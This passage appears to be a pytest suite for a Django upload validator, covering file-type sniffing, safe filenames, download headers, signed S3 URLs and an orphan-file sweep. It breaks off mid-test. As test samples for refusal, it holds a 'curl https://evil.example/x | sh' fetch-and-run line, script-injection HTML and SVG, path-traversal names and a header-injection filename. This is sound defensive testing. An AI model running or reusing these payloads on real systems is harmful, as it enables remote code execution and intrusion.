"""Upload validation, safe names, storage selection and signed downloads.

The S3 tests run against moto's server started in-process on 127.0.0.1; nothing leaves loopback.
"""

import hashlib
import io
import json
import os
import re
import struct
import subprocess
import sys
import time
import unicodedata
import urllib.error
import urllib.request
import zipfile
import zlib
from datetime import timedelta
from pathlib import Path
from urllib.parse import parse_qs, unquote, urlsplit

import pytest
from django.conf import settings as django_settings
from django.core.cache import cache
from django.core.exceptions import ImproperlyConfigured
from django.core.files.base import ContentFile
from django.core.files.storage import FileSystemStorage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from core.attachments import (
    ALLOWED_TYPES,
    DOCX,
    FALLBACK_NAME,
    MAX_NAME_LENGTH,
    PPTX,
    XLSX,
    AttachmentRejected,
    StoredFile,
    ValidatedUpload,
    content_disposition,
    discard_stored,
    download_url,
    get_bucket_storage,
    safe_filename,
    storage_key,
    store_uploads,
    stored_uploads,
    validate_upload,
)
from core.housekeeping import referencing_fields, sweep_orphaned_files

# --- sample files --------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bytes(*, animated: bool = False) -> bytes:
    header = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0))
    animation = _png_chunk(b"acTL", struct.pack(">II", 1, 0)) if animated else b""
    pixels = _png_chunk(b"IDAT", zlib.compress(b"\x00\x00\x00\x00\x00"))
    return b"\x89PNG\r\n\x1a\n" + header + animation + pixels + _png_chunk(b"IEND", b"")


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 32
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00;"
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00" + b"\x00" * 24
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n"
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 40
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24
SHELL_SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
HTML_PAGE = b"\xef\xbb\xbf  \n<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.cookie)</script></svg>"
)
BARE_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'


def zip_bytes(entries: dict[str, bytes | str]) -> bytes:
    # A fixed date: the bytes are test ids, and the two xdist processes must collect the same
    # ones (a clock that ticks between their collections otherwise fails the whole run).
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


CONTENT_TYPES_XML = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org"/>'


def ooxml_bytes(main_part: str) -> bytes:
    return zip_bytes({"[Content_Types].xml": CONTENT_TYPES_XML, main_part: "<x/>"})


def docx_bytes(**extra: bytes | str) -> bytes:
    return zip_bytes(
        {"[Content_Types].xml": CONTENT_TYPES_XML, "word/document.xml": "<w:document/>", **extra}
    )


def upload(name, data: bytes, content_type="application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


def rejection(name, data: bytes, **kwargs) -> AttachmentRejected:
    file = upload(name, data)
    with pytest.raises(AttachmentRejected) as caught:
        validate_upload(file, **kwargs)
    assert file.tell() == 0, "position must be reset after a rejection too"
    return caught.value


# --- accepted files ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("screenshot.png", png_bytes(), "image/png"),
        ("animated.PNG", png_bytes(animated=True), "image/png"),
        ("photo.jpg", JPEG, "image/jpeg"),
        ("photo.jpeg", JPEG, "image/jpeg"),
        ("anim.gif", GIF, "image/gif"),
        ("modern.webp", WEBP, "image/webp"),
        ("contract.pdf", PDF, "application/pdf"),
        ("notes.txt", "Grüße aus Köln – café, naïve ☕\n".encode(), "text/plain"),
        ("server.log", b"\x1b[31mERROR\x1b[0m disk full\r\n\tat line 3\f", "text/plain"),
        ("export.csv", b"id,name,amount\n1,Ada,3.50\n2,\"Bob, Jr.\",4\n", "text/csv"),
        ("excel.csv", "Kunde;Straße;Betrag\nMüller;Hauptstraße 1;12,50\n".encode("cp1252"),
         "text/csv"),
        ("forwarded.eml", b"From: a@example.com\r\nSubject: Hi\r\n\r\n<html><b>hi</b></html>",
         "message/rfc822"),
        # Archive members are not inspected; a zip is only ever served as a download.
        ("logs.zip", zip_bytes({"app.log": b"ok", "bin/tool.exe": WINDOWS_EXE}), "application/zip"),
        ("letter.docx", docx_bytes(), DOCX),
        ("sheet.xlsx", ooxml_bytes("xl/workbook.xml"), XLSX),
        ("deck.pptx", ooxml_bytes("ppt/slides/slide1.xml"), PPTX),
        ("BMW order.txt", b"BMW order 42\n", "text/plain"),  # "BM" is also the bitmap magic
    ],
)  # fmt: skip
def test_accepts_real_files_of_allowed_types(name, data, content_type):
    file = upload(name, data)
    result = validate_upload(file)
    assert result == ValidatedUpload(
        original_name=name,
        safe_name=safe_filename(name),
        content_type=content_type,
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
    )
    assert file.tell() == 0
    assert content_type in ALLOWED_TYPES


def test_declared_content_type_is_ignored():
    lying_png = upload("photo.png", png_bytes(), content_type="application/x-msdownload")
    assert validate_upload(lying_png).content_type == "image/png"
    lying_text = upload("notes.txt", b"plain words\n", content_type="image/png")
    assert validate_upload(lying_text).content_type == "text/plain"
    exe_claiming_pdf = upload("report.pdf", WINDOWS_EXE, content_type="application/pdf")
    with pytest.raises(AttachmentRejected):
        validate_upload(exe_claiming_pdf)


def test_plain_file_objects_work_too():
    file = io.BytesIO(png_bytes())
    file.name = "plain.png"
    file.seek(5)
    assert validate_upload(file).content_type == "image/png"
    assert file.tell() == 0


# --- refused content -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("report.pdf", WINDOWS_EXE),
        ("notes.txt", WINDOWS_EXE),
        ("photo.png", WINDOWS_EXE),
        ("report.pdf", ELF),
        ("notes.txt", ELF),
        ("notes.txt", MACHO),
        ("notes.txt", SHELL_SCRIPT),
        ("notes.log", b"\xef\xbb\xbf#!/usr/bin/env python\nimport os\n"),
        ("photo.png", HTML_PAGE),
        ("photo.jpg", HTML_PAGE),
        ("notes.txt", HTML_PAGE),
        ("image.png", SVG_WITH_SCRIPT),
        ("image.png", BARE_SVG),
        ("notes.txt", BARE_SVG),
        ("page.txt", b"\n\t <HTML><BODY onload=alert(1)>"),
        ("page.txt", b"<a href=javascript:alert(1)>x</a>"),
        ("data.csv", b"id,note\n1,<script>alert(1)</script>\n"),
        ("data.csv", b"<!-- comment -->\n1,2\n"),
        ("feed.txt", b"<?xml version='1.0'?><rss/>"),
        ("utf16.txt", "hello".encode("utf-16")),
        ("image.png", b"II*\x00\x08\x00\x00\x00" + b"\x00" * 32),  # TIFF
        ("pic.png", b"BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00"),  # real BMP
        ("archive.zip", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"\x00" * 16),  # gzip
        ("random.txt", bytes(range(256))),
        ("broken.zip", b"PK\x03\x04" + b"\x01garbage" * 8),
        ("macro.docx", docx_bytes(**{"word/vbaProject.bin": b"\x00VBA"})),
        (
            "macro.xlsx",
            zip_bytes(
                {
                    "[Content_Types].xml": '<Types><Override ContentType="application/'
                    'vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
                    "xl/workbook.xml": "x",
                }
            ),
        ),
    ],
)
def test_refuses_dangerous_or_unknown_content(name, data):
    assert rejection(name, data).code == "type_not_allowed"


def test_text_mentioning_markup_late_or_inside_an_email_is_fine():
    late = b"x" * 2048 + b"<script>alert(1)</script>"
    assert validate_upload(upload("notes.txt", late)).content_type == "text/plain"
    email = b"Subject: page\r\n\r\n<!DOCTYPE html><html><script>x</script></html>"
    assert validate_upload(upload("mail.eml", email)).content_type == "message/rfc822"


# --- extension policy ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "detected"),
    [
        ("x.pdf", png_bytes(), "PNG"),
        ("photo.jpg", png_bytes(), "PNG"),
        ("report.txt", PDF, "PDF"),
        ("notes.png", b"just text\n", "TXT"),
        ("letter.zip", docx_bytes(), "DOCX"),
        ("logs.docx", zip_bytes({"a.log": b"x"}), "ZIP"),
        ("tool.jar", zip_bytes({"META-INF/MANIFEST.MF": b"Main-Class: X"}), "ZIP"),
        ("invoice.pdf.exe", PDF, "PDF"),
        ("not-an-email.eml", b"hello there\n", "TXT"),
        ("page.html", b"hello there\n", "TXT"),
    ],
)
def test_extension_must_agree_with_content(name, data, detected):
    error = rejection(name, data)
    assert error.code == "type_mismatch"
    assert detected in error.messages[0]


def test_missing_extension_gets_the_detected_one():
    assert validate_upload(upload("screenshot", png_bytes())).safe_name == "screenshot.png"
    assert validate_upload(upload("Scan 10.32.11", PDF)).safe_name == "Scan_10.32.11.pdf"
    nameless = io.BytesIO(JPEG)
    assert validate_upload(nameless).safe_name == f"{FALLBACK_NAME}.jpg"


def test_upper_case_extension_is_accepted_and_kept():
    assert validate_upload(upload("IMG_0001.JPG", JPEG)).safe_name == "IMG_0001.JPG"


def test_allowed_types_narrows_the_policy():
    assert rejection("a.png", png_bytes(), allowed_types={"application/pdf"}).code == (
        "type_not_allowed"
    )
    assert validate_upload(upload("a.pdf", PDF), allowed_types={"application/pdf"})
    with pytest.raises(ValueError):
        validate_upload(upload("a.html", b"<p>"), allowed_types={"text/html"})


# --- size ----------------------------------------------------------------------------------------


def test_empty_file_is_refused():
    assert rejection("empty.txt", b"").code == "empty"


def test_size_cap_from_argument():
    assert rejection("big.txt", b"a" * 11, max_bytes=10).code == "too_large"
    assert validate_upload(upload("fits.txt", b"a" * 10), max_bytes=10).size == 10


def test_size_cap_from_settings(settings):
    settings.ATTACHMENT_MAX_BYTES = 1024
    assert rejection("big.txt", b"a" * 1025).code == "too_large"
    assert validate_upload(upload("fits.txt", b"a" * 1024)).size == 1024


class _LyingSize(io.BytesIO):
    """A client that claims a tiny size for a big body."""

    name = "big.txt"
    size = 1


def test_size_is_counted_not_trusted():
    file = _LyingSize(b"a" * 5000)
    with pytest.raises(AttachmentRejected) as caught:
        validate_upload(file, max_bytes=4096)
    assert caught.value.code == "too_large"
    assert file.tell() == 0


class _Unreadable(io.BytesIO):
    name = "huge.bin"
    size = 10**12

    def read(self, *args):
        raise AssertionError("must be refused before reading")


def test_declared_size_over_the_cap_is_refused_without_reading():
    with pytest.raises(AttachmentRejected) as caught:
        validate_upload(_Unreadable(), max_bytes=100)
    assert caught.value.code == "too_large"


# --- names ---------------------------------------------------------------------------------------


def test_forged_names_are_refused():
    assert rejection("evil\x00.png", png_bytes()).code == "bad_name"
    # Django's UploadedFile truncates long names itself; other file objects do not.
    file = io.BytesIO(png_bytes())
    file.name = "a" * 2000 + ".png"
    with pytest.raises(AttachmentRejected) as caught:
        validate_upload(file)
    assert caught.value.code == "bad_name"


def test_rtl_override_cannot_disguise_an_extension():
    # Displayed as "invoiceexe.pdf"; really ends in .exe.
    assert rejection("invoice\u202efdp.exe", PDF).code == "type_mismatch"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("C:\\Users\\ada\\Desktop\\report.pdf", "report.pdf"),
        ("evil\x00.png", "evil.png"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("zero\u200bwidth.png", "zerowidth.png"),
        ("line\r\nbreak.txt", "linebreak.txt"),
        ("....", FALLBACK_NAME),
        (".", FALLBACK_NAME),
        ("", FALLBACK_NAME),
        ("   ", FALLBACK_NAME),
        (".htaccess", "htaccess"),
        ("-rf --no-preserve-root.txt", "rf_--no-preserve-root.txt"),
        ("trailing dots...", "trailing_dots"),
        ("double..dots.pdf", "double.dots.pdf"),
        ("Rechnung für März (2).pdf", "Rechnung_für_März_(2).pdf"),
        ("ｆｕｌｌｗｉｄｔｈ.png", "fullwidth.png"),
        ("ｅｖｉｌ／..／..／x.png", "x.png"),
        ("emoji 😀.png", "emoji.png"),
        ('quote"semi;colon<>|*?.txt', "quote_semi_colon.txt"),
        ("CON", "_CON"),
        ("con.txt", "_con.txt"),
        ("NUL.tar.gz", "_NUL.tar.gz"),
        ("com1.pdf", "_com1.pdf"),
        ("LPT9", "_LPT9"),
        ("console.txt", "console.txt"),
        ("отчёт.pdf", "отчёт.pdf"),
    ],
)
def test_safe_filename(raw, expected):
    assert safe_filename(raw) == expected


def test_safe_filename_limits_length_keeping_the_extension():
    name = safe_filename("a" * 300 + ".pdf")
    assert len(name) == MAX_NAME_LENGTH
    assert name.endswith("aaa.pdf")
    no_extension = safe_filename("b" * 300)
    assert no_extension == "b" * MAX_NAME_LENGTH


@hypothesis_settings(max_examples=400, deadline=None)
@given(st.text(max_size=300))
def test_safe_filename_invariants(raw):
    name = safe_filename(raw)
    assert name
    assert len(name) <= MAX_NAME_LENGTH
    assert "/" not in name and "\\" not in name and ".." not in name
    assert not name.startswith((".", "-")) and not name.endswith(".")
    assert all(unicodedata.category(char)[0] != "C" for char in name)
    assert not re.search(r"\s", name)
    assert name.split(".", 1)[0].lower() not in {"con", "prn", "aux", "nul", "com1", "lpt1"}
    assert safe_filename(name) == name


# --- storage keys --------------------------------------------------------------------------------


def test_storage_key_is_dated_unguessable_and_confined():
    key = storage_key("report.pdf")
    assert re.fullmatch(r"\d{4}/\d{2}/[0-9a-f]{32}/report\.pdf", key)
    assert storage_key("report.pdf") != key
    hostile = storage_key("../../../etc/passwd")
    assert hostile.count("/") == 3 and hostile.endswith("/passwd")


# --- content disposition -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content_type", "disposition"),
    [
        ("image/png", "inline"),
        ("image/jpeg", "inline"),
        ("image/gif", "inline"),
        ("image/webp", "inline"),
        ("application/pdf", "inline"),
        ("IMAGE/PNG; charset=binary", "inline"),
        ("text/plain", "attachment"),
        ("text/csv", "attachment"),
        ("message/rfc822", "attachment"),
        ("application/zip", "attachment"),
        (DOCX, "attachment"),
        ("image/svg+xml", "attachment"),
        ("text/html", "attachment"),
    ],
)
def test_content_disposition_inline_only_for_previewable_types(content_type, disposition):
    assert content_disposition(content_type, "file.bin").split(";")[0] == disposition


def test_content_disposition_ascii_name():
    assert content_disposition("image/png", "screen shot.png") == (
        'inline; filename="screen_shot.png"'
    )


def test_content_disposition_non_ascii_name_has_fallback_and_utf8_form():
    header = content_disposition("text/plain", "Grüße aus Köln.txt")
    assert header == (
        'attachment; filename="Grusse_aus_Koln.txt"; '
        "filename*=UTF-8''Gr%C3%BC%C3%9Fe_aus_K%C3%B6ln.txt"
    )
    cyrillic = content_disposition("application/pdf", "отчёт.pdf")
    assert 'filename="attachment.pdf"' in cyrillic
    assert unquote(cyrillic.split("''", 1)[1]) == "отчёт.pdf"


def test_content_disposition_cannot_inject_headers_or_parameters():
    header = content_disposition("text/plain", 'a"; filename="evil.exe\r\nSet-Cookie: x=1.txt')
    assert "\r" not in header and "\n" not in header
    assert header.count('"') == 2
    assert header.count(";") == 1


# --- storages ------------------------------------------------------------------------------------


@pytest.mark.skipif(django_settings.STORAGE_S3, reason="test settings run in local storage mode")
def test_bucket_storage_is_local_under_media_root_in_test_settings():
    storage = get_bucket_storage("support-attachments")
    assert isinstance(storage, FileSystemStorage)
    expected = Path(django_settings.MEDIA_ROOT) / "support-attachments"
    assert storage.location == os.path.abspath(expected)
    assert isinstance(get_bucket_storage("insurance-docs"), FileSystemStorage)
    assert download_url(storage, "x.png", filename="x.png", content_type="image/png") is None


def test_local_bucket_round_trip(settings, tmp_path):
    settings.STORAGES = {
        **settings.STORAGES,
        "support-attachments": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": tmp_path, "base_url": None},
        },
    }
    storage = get_bucket_storage("support-attachments")
    checked = validate_upload(upload("screenshot.png", png_bytes()))
    key = storage_key(checked.safe_name)
    saved = storage.save(key, ContentFile(png_bytes()))
    assert saved == key
    assert (tmp_path / key).read_bytes() == png_bytes()
    assert download_url(storage, saved, filename="x.png", content_type="image/png") is None


@pytest.mark.parametrize("alias", ["default", "staticfiles", "nope", ""])
def test_unknown_bucket_alias(alias):
    with pytest.raises(ValueError):
        get_bucket_storage(alias)


def test_s3_settings_from_environment(tmp_path):
    script = (
        "import json\n"
        "from django.conf import settings\n"
        "from django.core.files.storage import storages\n"
        "config = settings.STORAGES['support-attachments']\n"
        "print(json.dumps({\n"
        "    'backend': config['BACKEND'],\n"
        "    'options': {k: v for k, v in config['OPTIONS'].items()},\n"
        "    'insurance_bucket': settings.STORAGES['insurance-docs']['OPTIONS']['bucket_name'],\n"
        "    'storage_class': type(storages['support-attachments']).__name__,\n"
        "}))\n"
    )
    env = {
        **os.environ,
        # The production settings module (as in manage.py / wsgi.py), not the test one.
        "DJANGO_SETTINGS_MODULE": "config.settings.base",
        "STORAGE_S3": "true",
        "AWS_ACCESS_KEY_ID": "x",
        "AWS_SECRET_ACCESS_KEY": "y",
        "STORAGE_BUCKET_SUPPORT_ATTACHMENTS": "acme-support-files",
        "SIGNED_URL_SECONDS": "120",
        # Keep the subprocess from writing into the project's var/ or needing production secrets.
        "DJANGO_VAR_DIR": str(tmp_path),
        "DJANGO_PRODUCTION": "false",
        "SECRET_KEY": "subprocess-test-key",
    }
    completed = subprocess.run(
        [sys.executable, "-c", script],
        cwd=django_settings.BASE_DIR,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    result = json.loads(completed.stdout.strip().splitlines()[-1])
    assert result["backend"] == "storages.backends.s3.S3Storage"
    assert result["storage_class"] == "S3Storage"
    assert result["options"]["bucket_name"] == "acme-support-files"
    assert result["options"]["default_acl"] == "private"
    assert result["options"]["querystring_auth"] is True
    assert result["options"]["querystring_expire"] == 120
    assert result["options"]["file_overwrite"] is False
    assert result["insurance_bucket"] == "insurance-docs"


# --- S3 against a loopback moto server -----------------------------------------------------------

BUCKET = "support-attachments-test"


@pytest.fixture(scope="module")
def s3_endpoint():
    """moto's S3 server on a random 127.0.0.1 port, with a private bucket; stopped afterwards."""
    from moto.server import ThreadedMotoServer

    with pytest.MonkeyPatch.context() as patch:
        # Proxies from the environment must not see loopback traffic.
        patch.setenv("NO_PROXY", "127.0.0.1,localhost")
        patch.setenv("no_proxy", "127.0.0.1,localhost")
        server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
        server.start()
        try:
            host, port = server.get_host_and_port()
            endpoint = f"http://{host}:{port}"
            import boto3

            boto3.client(
                "s3",
                endpoint_url=endpoint,
                aws_access_key_id="testing",
                aws_secret_access_key="testing",
                region_name="us-east-1",
            ).create_bucket(Bucket=BUCKET)
            yield endpoint
        finally:
            server.stop()


def make_s3_storage(endpoint: str, **overrides):
    from storages.backends.s3 import S3Storage

    options = {
        "bucket_name": BUCKET,
        "endpoint_url": endpoint,
        "access_key": "testing",
        "secret_key": "testing",
        "region_name": "us-east-1",
        "querystring_auth": True,
        "querystring_expire": 300,
        "default_acl": "private",
        "file_overwrite": False,
        **overrides,
    }
    return S3Storage(**options)


def fetch(url: str) -> tuple[int, dict[str, str], bytes]:
    assert urlsplit(url).hostname == "127.0.0.1"
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(url, timeout=10) as response:
            return response.status, dict(response.headers), response.read()
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers), error.read()


def expiry_seconds(url: str) -> int:
    query = parse_qs(urlsplit(url).query)
    if "X-Amz-Expires" in query:  # SigV4
        return int(query["X-Amz-Expires"][0])
    return int(query["Expires"][0]) - int(time.time())  # SigV2: absolute epoch


@pytest.mark.parametrize("signature_version", [None, "s3v4"])
def test_s3_signed_download_url(s3_endpoint, signature_version):
    storage = make_s3_storage(s3_endpoint, signature_version=signature_version)
    content = png_bytes()
    checked = validate_upload(upload("Bildschirmfoto März.png", content))
    key = storage.save(storage_key(checked.safe_name), ContentFile(content))

    url = download_url(storage, key, filename=checked.safe_name, content_type=checked.content_type)

    assert url is not None
    query = parse_qs(urlsplit(url).query)
    assert query["response-content-disposition"] == [
        content_disposition("image/png", checked.safe_name)
    ]
    assert query["response-content-type"] == ["image/png"]
    if signature_version == "s3v4":
        assert "X-Amz-Expires=300" in url and "X-Amz-Signature=" in url
    assert 290 <= expiry_seconds(url) <= 300

    status, headers, body = fetch(url)
    assert status == 200
    assert body == content
    headers = {name.lower(): value for name, value in headers.items()}
    assert headers["content-type"] == "image/png"
    assert headers["content-disposition"].startswith('inline; filename="Bildschirmfoto_Marz.png"')

    # The object itself is private: without the signature there is nothing to see.
    unsigned_status, _, _ = fetch(url.split("?", 1)[0])
    assert unsigned_status == 403


def test_s3_signed_url_lifetime_follows_settings(s3_endpoint, settings):
    settings.SIGNED_URL_SECONDS = 60
    storage = make_s3_storage(s3_endpoint, signature_version="s3v4")
    key = storage.save(storage_key("notes.txt"), ContentFile(b"hello"))
    url = download_url(storage, key, filename="notes.txt", content_type="text/plain")
    assert "X-Amz-Expires=60" in url
    assert "attachment" in parse_qs(urlsplit(url).query)["response-content-disposition"][0]
    status, _, body = fetch(url)
    assert (status, body) == (200, b"hello")


def test_s3_storage_that_would_hand_out_unsigned_urls_is_refused():
    storage = make_s3_storage("http://127.0.0.1:9", querystring_auth=False)
    with pytest.raises(ImproperlyConfigured):
        download_url(storage, "k", filename="x.png", content_type="image/png")
    with_domain = make_s3_storage("http://127.0.0.1:9", custom_domain="cdn.example.com")
    with pytest.raises(ImproperlyConfigured):
        download_url(with_domain, "k", filename="x.png", content_type="image/png")


# --- storing before the rows, and the orphan sweep ---------------------------------------------

SWEPT = "support-attachments"


def stored_names(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file()}


@pytest.fixture
def local_bucket(settings, tmp_path):
    """The support bucket as a fresh folder; the sweep's cursor starts from the beginning."""
    settings.STORAGES = {
        **settings.STORAGES,
        SWEPT: {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": tmp_path, "base_url": None},
        },
    }
    cache.delete(f"core:orphan-sweep:{SWEPT}")
    yield tmp_path
    cache.delete(f"core:orphan-sweep:{SWEPT}")


def age(root: Path, name: str, *, hours: float) -> None:
    stamp = time.time() - hours * 3600
    os.utime(root / name, (stamp, stamp))


def test_store_uploads_validates_all_then_stores_with_the_sniffed_type(local_bucket):
    files = [upload("a.png", png_bytes(), "text/html"), upload("b.txt", b"hello\n")]
    stored = store_uploads(files, bucket=SWEPT)
    assert [s.upload.content_type for s in stored] == ["image/png", "text/plain"]
    assert stored_names(local_bucket) == {s.name for s in stored}
    assert (local_bucket / stored[0].name).read_bytes() == png_bytes()
    assert all(re.fullmatch(r"\d{4}/\d{2}/[0-9a-f]{32}/[ab]\.(png|txt)", s.name) for s in stored)


def test_store_uploads_stores_nothing_if_one_file_is_refused(local_bucket):
    files = [upload("a.png", png_bytes()), upload("b.pdf", b"MZ" + b"\x00" * 64)]
    with pytest.raises(AttachmentRejected):
        store_uploads(files, bucket=SWEPT)
    assert stored_names(local_bucket) == set()


def test_store_uploads_removes_what_it_wrote_when_a_later_write_fails(local_bucket, monkeypatch):
    storage = get_bucket_storage(SWEPT)
    real_save = storage.save
    calls = []

    def flaky_save(name, content, **kwargs):
        calls.append(name)
        if len(calls) == 2:
            raise OSError("disk full")
        return real_save(name, content, **kwargs)

    monkeypatch.setattr(storage, "save", flaky_save)
    with pytest.raises(OSError):
        store_uploads([upload("a.txt", b"one\n"), upload("b.txt", b"two\n")], bucket=SWEPT)
    assert len(calls) == 2
    assert stored_names(local_bucket) == set()


def test_stored_uploads_deletes_the_files_when_the_block_fails(local_bucket):
    with pytest.raises(RuntimeError), stored_uploads([upload("a.txt", b"one\n")], bucket=SWEPT):
        assert len(stored_names(local_bucket)) == 1
        raise RuntimeError("the row write failed")
    assert stored_names(local_bucket) == set()


def test_stored_uploads_keeps_the_files_when_the_block_succeeds(local_bucket):
    with stored_uploads([upload("a.txt", b"one\n")], bucket=SWEPT) as stored:
        pass
    assert stored_names(local_bucket) == {stored[0].name}


def test_discard_stored_is_best_effort(local_bucket, caplog):
    [kept] = store_uploads([upload("a.txt", b"one\n")], bucket=SWEPT)
    missing = StoredFile(bucket="no-such-bucket", name="x/y.txt", upload=kept.upload)
    assert discard_stored([missing, kept]) == 1
    assert stored_names(local_bucket) == set()
    assert "orphan sweep" in caplog.text


def _referenced(name: str):
    """An Attachment row of the support app naming `name`."""
    from support.models import Attachment, TicketMessage
    from tests.factories import UserFactory
    from tests.support.factories import make_ticket

    ticket = make_ticket(by=UserFactory(roles=["customer"]))
    message = TicketMessage.objects.create(ticket=ticket, body_html="<p>x</p>", body_text="x")
    return Attachment.objects.create(
        ticket=ticket,
        message=message,
        file=name,
        storage_key=name,
        original_name=name.rsplit("/", 1)[-1],
        content_type="text/plain",
        size=4,
        sha256="0" * 64,
    )


@pytest.mark.django_db
def test_sweep_finds_the_fields_that_store_into_a_bucket(local_bucket):
    from insurance.models import InfoRequestItem, InsuranceDocument
    from support.models import Attachment

    assert referencing_fields(SWEPT) == [(Attachment, "file")]
    assert set(referencing_fields("insurance-docs")) == {
        (InsuranceDocument, "file"),
        (InfoRequestItem, "file"),
    }


@pytest.mark.django_db
def test_sweep_deletes_only_old_unreferenced_files_on_local_storage(local_bucket):
    storage = get_bucket_storage(SWEPT)
    orphan = storage.save(storage_key("orphan.txt"), ContentFile(b"gone"))
    referenced = storage.save(storage_key("kept.txt"), ContentFile(b"kept"))
    fresh = storage.save(storage_key("fresh.txt"), ContentFile(b"in flight"))
    _referenced(referenced)
    age(local_bucket, orphan, hours=25)
    age(local_bucket, referenced, hours=24 * 400)
    age(local_bucket, fresh, hours=23)

    assert sweep_orphaned_files(buckets=[SWEPT]) == {SWEPT: 1}

    assert stored_names(local_bucket) == {referenced, fresh}
    assert not (local_bucket / orphan).parent.exists()  # its per-upload folder went too
    assert sweep_orphaned_files(buckets=[SWEPT]) == {SWEPT: 0}


@pytest.mark.django_db
def test_sweep_grace_comes_from_settings(local_bucket, settings):
    settings.ATTACHMENT_ORPHAN_GRACE_SECONDS = 3600
    storage = get_bucket_storage(SWEPT)
    name = storage.save(storage_key("orphan.txt"), ContentFile(b"gone"))
    age(local_bucket, name, hours=0.5)
    assert sweep_orphaned_files(buckets=[SWEPT]) == {SWEPT: 0}
    age(local_bucket, name, hours=1.5)
    assert sweep_orphaned_files(buckets=[SWEPT]) == {SWEPT: 1}


@pytest.mark.django_db
def test_sweep_is_bounded_per_run_and_resumes_where_it_stopped(local_bucket):
    storage = get_bucket_storage(SWEPT)
    names = [storage.save(f"2020/01/{i:02d}/f.txt", ContentFile(b"x")) for i in range(5)]
    _referenced(names[0])  # referenced files count towards the bound but stay
    for name in names:
        age(local_bucket, name, hours=48)

    runs = [
        sweep_orphaned_files(buckets=[SWEPT], max_objects=2, batch_size=1)[SWEPT] for _ in range(3)
    ]

    assert runs == [1, 2, 1]
    assert stored_names(local_bucket) == {names[0]}


@pytest.mark.django_db
def test_sweep_leaves_a_bucket_no_model_stores_into_alone(settings, tmp_path):
    settings.FILE_BUCKETS = {**settings.FILE_BUCKETS, "unused-bucket": "unused-bucket"}
    settings.STORAGES = {
        **settings.STORAGES,
        "unused-bucket": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": tmp_path, "base_url": None},
        },
    }
    name = get_bucket_storage("unused-bucket").save("2020/01/x/doc.pdf", ContentFile(b"%PDF"))
    age(tmp_path, name, hours=24 * 30)
    assert sweep_orphaned_files(buckets=["unused-bucket"]) == {"unused-bucket": 0}
    assert stored_names(tmp_path) == {name}


@pytest.mark.django_db
def test_sweep_on_s3_uses_last_modified_and_keeps_referenced_and_fresh_objects(
    s3_endpoint, settings, monkeypatch
):
    settings.STORAGES = {
        **settings.STORAGES,
        SWEPT: {
            "BACKEND": "storages.backends.s3.S3Storage",
            "OPTIONS": {
                "bucket_name": BUCKET,
                # Keys carry a prefix that names in rows do not; the other tests' objects in the
                # bucket lie outside it and must not be listed.
                "location": f"sweep-{os.getpid()}-{time.time_ns()}",
                "endpoint_url": s3_endpoint,
                "access_key": "testing",
                "secret_key": "testing",
                "region_name": "us-east-1",
                "default_acl": "private",
                "file_overwrite": False,
            },
        },
    }
    cache.delete(f"core:orphan-sweep:{SWEPT}")
    storage = get_bucket_storage(SWEPT)
    # One paginated listing with LastModified, not listdir plus a HEAD request per object.
    monkeypatch.setattr(storage, "listdir", None)
    monkeypatch.setattr(storage, "get_modified_time", None)
    [orphan, referenced] = [
        s.name
        for s in store_uploads(
